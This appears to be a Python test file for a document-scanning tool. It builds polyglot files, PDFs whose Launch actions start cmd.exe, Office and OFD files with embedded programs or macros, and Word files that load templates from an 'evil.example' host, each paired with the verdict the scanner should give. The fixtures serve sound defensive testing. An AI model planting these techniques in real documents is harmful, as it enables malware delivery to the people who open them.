"""Files that are two kinds at once, and documents that act or hold what does."""

import random
import zipfile
import zlib

from kiosk.examination.verdict import Verdict as V
from tests.examination import making
from tests.examination.cases import DOC, JPEG, NOISE, PDF, PNG, SCRIPTS, case

LONG = "长" * 21_800

TWO_AT_ONCE = [
    case("PDF, ZIP and an end", "招标.pdf", PDF + SCRIPTS + b"\n%%EOF\n", V.TWO_KINDS),
    case("PDF and a ZIP of no entries", "招标.pdf",
          PDF + making.ending_with(SCRIPTS, count=0), V.TWO_KINDS),
    case("JPEG and a ZIP of no entries", "照片.jpg",
          JPEG + making.ending_with(SCRIPTS, count=0), V.TWO_KINDS),
    case("JPEG and a ZIP with a comment that is cut off", "照片.jpg",
          JPEG + making.ending_with(SCRIPTS, comment=0xFFFF), V.TWO_KINDS),
    case("text and ZIP", "说明.txt", b"text\n" * 2000 + SCRIPTS, V.TWO_KINDS),
    case("Word 97 and ZIP", "招标.doc", DOC + SCRIPTS, V.TWO_KINDS),
    case("Word 97 and RAR", "招标.doc", DOC + making.RAR5, V.TWO_KINDS),
    case("Word 97 with RAR in a part", "招标.doc", making.ole(
        {"WordDocument": making.word(), "Data": bytes(512) + making.RAR5}), V.TWO_KINDS),
    case("Word 97 with a ZIP in it", "招标.doc",
          making.ole({"WordDocument": making.word(), "Data": bytes(512) + SCRIPTS}), V.TWO_KINDS),
    case("PDF and RAR", "招标.pdf", PDF + making.RAR5, V.TWO_KINDS),
    case("PDF and RAR far behind", "招标.pdf",
          making.pdf(inside=NOISE[:1_040_000]) + b"\n" * 40_000 + making.RAR5, V.TWO_KINDS),
    case("PDF, 7z and an end", "招标.pdf", PDF + making.SEVEN_ZIP + b"%%EOF", V.TWO_KINDS),
    case("PDF with RAR before its only end", "招标.pdf",
          PDF[:-6] + making.RAR5 + PDF[-6:], V.TWO_KINDS),
    case("PDF, program and an end", "招标.pdf", PDF + making.PE + b"\n%%EOF\n", V.TWO_KINDS),
    case("PDF with RAR in a stream", "招标.pdf", making.pdf(inside=b"q\n" + making.RAR5),
          V.TWO_KINDS),
    case("PDF with a ZIP in a stream that lies about its list", "招标.pdf", making.pdf(
        inside=making.patched(SCRIPTS, b"PK\x05\x06", 12, b"\1\0\0\0")), V.TWO_KINDS),
    case("PDF with a ZIP in a stream that has only a large end", "招标.pdf", making.pdf(
        inside=making.zip64(making.zipped({LONG: making.PE}), small=False)), V.TWO_KINDS),
    case("JPEG and RAR", "照片.jpg", JPEG + making.RAR5, V.TWO_KINDS),
    case("JPEG with RAR in a comment", "照片.jpg",
          JPEG[:2] + b"\xff\xfe\0\x7f" + making.RAR5.ljust(125) + JPEG[2:], V.TWO_KINDS),
    case("JPEG and 7z", "照片.jpg", JPEG + making.SEVEN_ZIP, V.TWO_KINDS),
    case("JPEG and program", "照片.jpg", JPEG + making.PE, V.TWO_KINDS),
    case("JPEG with a script far before the file's end", "照片.jpg",
          JPEG + b"<script>1</script>" + bytes(70_000), V.TWO_KINDS),
    case("PNG and RAR", "照片.png", PNG + making.RAR5, V.TWO_KINDS),
    case("TIFF and RAR", "扫描.tif", making.picture("TIFF") + making.RAR5, V.TWO_KINDS),
    case("BMP and program", "照片.bmp", making.picture("BMP") + making.ELF, V.TWO_KINDS),
    case("ZIP and HTML", "资料.zip",
          making.zipped({"a.txt": "a"}) + b"<script>1</script>", V.TRAILING_BYTES),
    case("ZIP and RAR", "资料.zip", making.zipped({"a.txt": "a"}) + making.RAR5,
          V.TRAILING_BYTES),
    case("Word and program", "招标.docx", making.docx() + making.PE, V.TRAILING_BYTES),
    case("ZIP with an entry that its list leaves out", "资料.zip", making.one_entry(
        b"a.txt", b"a", gap=SCRIPTS[: SCRIPTS.index(b"PK\x01\x02")]), V.DAMAGED),
    case("ZIP with bytes between", "资料.zip",
          making.one_entry(b"a.txt", b"a", gap=b"not twelve"), V.DAMAGED),
]  # fmt: skip

ACTING = [
    case("PDF that starts a program", "招标.pdf",
          making.acting_pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>"), V.STARTS_OTHERS),
    case("PDF that starts a program, spelt otherwise", "招标.pdf",
          making.acting_pdf(b"/OpenAction<</S/L#61unc#68/F(cmd.exe)>>"), V.STARTS_OTHERS),
    case("PDF with a link that starts a program", "招标.pdf", making.acting_pdf(
        b"", pages=b"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F(a.bat)>>>>]"),
        V.STARTS_OTHERS),
    case("PDF that starts a program, packed", "招标.pdf",
          making.packed_objects(b"<</S/Launch/F(cmd.exe)>>"), V.STARTS_OTHERS),
    case("PDF that starts a program, packed over the end of what is read at once", "招标.pdf",
          making.packed_objects(b"<</B<%s>/S/Launch/F(cmd.exe)>>" % NOISE[:2000].hex().encode(),
                                b"/B(" + b"b" * 1_047_800 + b")"), V.STARTS_OTHERS),
    case("PDF that starts a program, packed in a rare way", "招标.pdf",
          making.packed_twice(b"<</S/Launch/F(cmd.exe)>>"), V.STARTS_OTHERS),
    case("PDF with a program attached", "招标.pdf",
          making.attaching_pdf("x.dat", making.PE), V.HELD_PROGRAM),
    case("PDF with a program's name attached", "招标.pdf",
          making.attaching_pdf("x.hta", b"<p>"), V.HELD_PROGRAM),
    case("PDF with a program attached, packed", "招标.pdf", making.attaching_pdf(
        "x.dat", zlib.compress(making.PE), more=b"/Filter/FlateDecode"), V.HELD_PROGRAM),
    case("PDF with a program attached to a page", "招标.pdf", making.acting_pdf(
        b"", making.PE, pages=b"/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]"
        b"/FS<</Type/Filespec/F(x.exe)/EF<</F 4 0 R>>>>>>]"), V.HELD_PROGRAM),
    case("PDF with RAR attached", "招标.pdf",
          making.attaching_pdf("x.rar", making.RAR5), V.ZIP_NESTED),
    case("PDF with a ZIP of programs in a stream", "招标.pdf", making.pdf(inside=SCRIPTS),
          V.ZIP_PROGRAM),
    case("ZIP with a PDF that starts a program", "资料.zip", making.zipped(
        {"a.pdf": making.acting_pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>")}), V.STARTS_OTHERS),
    case("ZIP with a PDF with a password", "资料.zip",
          making.zipped({"a.pdf": making.locked_pdf("geheim")}), V.ENCRYPTED),
    case("Word with a Visio drawing with macros", "招标.docx", making.docx({
        "word/embeddings/a.vsdx": making.vsdx({"visio/vbaProject.bin": b"x"})}), V.MACROS),
    case("Visio drawing as ZIP", "资料.zip", making.vsdx(), V.KIND_DIFFERS),
    case("Word with a package of a program", "招标.docx", making.docx({
        "word/embeddings/oleObject1.bin": making.ole(
            {"\x01Ole10Native": making.package("a.exe", making.PE)})}), V.HELD_PROGRAM),
    case("Word 97 with a package of a program", "招标.doc", making.ole({
        "WordDocument": making.word(), "\x01Ole10Native": making.package("表.pdf", making.PE)}),
        V.HELD_PROGRAM),
    case("Word 97 with a package of a script", "招标.doc", making.ole({
        "WordDocument": making.word()}, small={"\x01Ole10Native": making.package("a.vbs", b"1")}),
        V.HELD_PROGRAM),
    case("Word 97 with a package that is none", "招标.doc", making.ole({
        "WordDocument": making.word(), "\x01Ole10Native": b"evil.exe\0" + making.PE}),
        V.HELD_PROGRAM),
    case("Word 97 with a second package, of a program", "招标.doc", making.ole(
        {"WordDocument": making.word(), "\x01Ole10Native": making.package("a.exe", b"1")},
        small={"\x01Ole10Native": making.package("a.txt", b"1")}), V.HELD_PROGRAM),
    case("Excel 97 with a sheet of macros", "清单.xls",
          making.ole({"Workbook": making.workbook(macro_sheet=True)}), V.MACROS),
    case("Word with a batch file", "招标.docx", making.docx({"word/run.bat": "del x"}),
          V.HELD_PROGRAM),
    case("Word with JScript", "招标.docx", making.docx({"word/y.js": "x"}), V.HELD_PROGRAM),
    case("OFD with VBScript", "招标.ofd", making.ofd({"Doc_0/Attachs/a.vbs": "x"}),
          V.HELD_PROGRAM),
    case("OFD with HTA", "招标.ofd", making.ofd({"Doc_0/Attachs/a.hta": "x"}), V.HELD_PROGRAM),
    case("Excel with a sheet of macros", "清单.xlsx",
          making.xlsx({"xl/macrosheets/sheet1.xml": "<a/>"}), V.MACROS),
    case("Excel with a sheet of macros by another name", "清单.xlsx", making.xlsx({
        "xl/a.xml": "<a/>", "[Content_Types].xml": making.types(
            "/xl/a.xml", "application/vnd.ms-excel.macrosheet+xml")}), V.MACROS),
    case("Word with macros by another name", "招标.docx", making.docx({
        "word/a.bin": b"x", "[Content_Types].xml": making.types(
            "/word/a.bin", "application/vnd.ms-office.vbaProject")}), V.MACROS),
    case("Word with macros by their relation", "招标.docx", making.docx({
        "word/a.bin": b"x", "word/_rels/document.xml.rels": making.relations(
            "vbaProject", "a.bin").encode("utf-16")}), V.MACROS),
    case("Word with macros behind 2,500 parts", "招标.docx", making.docx({
        **{f"word/media/{at}.xml": "a" for at in range(2500)},
        "word/z.bin": making.ole({"_VBA_PROJECT": b"x"})}), V.MACROS),
    case("Word with a template from elsewhere", "招标.docx", making.docx({
        "word/_rels/settings.xml.rels": making.relations(
            "attachedTemplate", "http://evil.example/x.dotm")}), V.LOADS_OTHERS),
    case("Word with a template on another computer", "招标.docx", making.docx({
        "word/_rels/settings.xml.rels": making.relations(
            "attachedTemplate", "file:///\\\\evil\\x.dotm")}), V.LOADS_OTHERS),
    case("Word with an object from elsewhere", "招标.docx", making.docx({
        "word/_rels/document.xml.rels": making.relations(
            "oleObject", "mhtml:http://evil.example/x!x")}), V.LOADS_OTHERS),
    case("ZIP with a large ZIP that is called Word", "资料.zip", making.zipped({
        "a.docx": making.zipped({"x.exe": making.PE, "r.bin": random.Random(3).randbytes(
            16_500_000)}, method=zipfile.ZIP_STORED)}, method=zipfile.ZIP_STORED), V.ZIP_PROGRAM),
    case("ZIP with a large packed Word document that holds a program", "资料.zip", making.zipped({
        "a.docx": making.docx({"word/media/a": random.Random(3).randbytes(16_500_000),
                               "word/x.bat": "1"})}), V.HELD_PROGRAM),
    *[case(f"ZIP with {name}", "资料.zip", making.zipped({name: "x"}), V.ZIP_PROGRAM) for name in (
        "a.library-ms", "a.ｅｘｅ", "a.bat . ")],
]  # fmt: skip
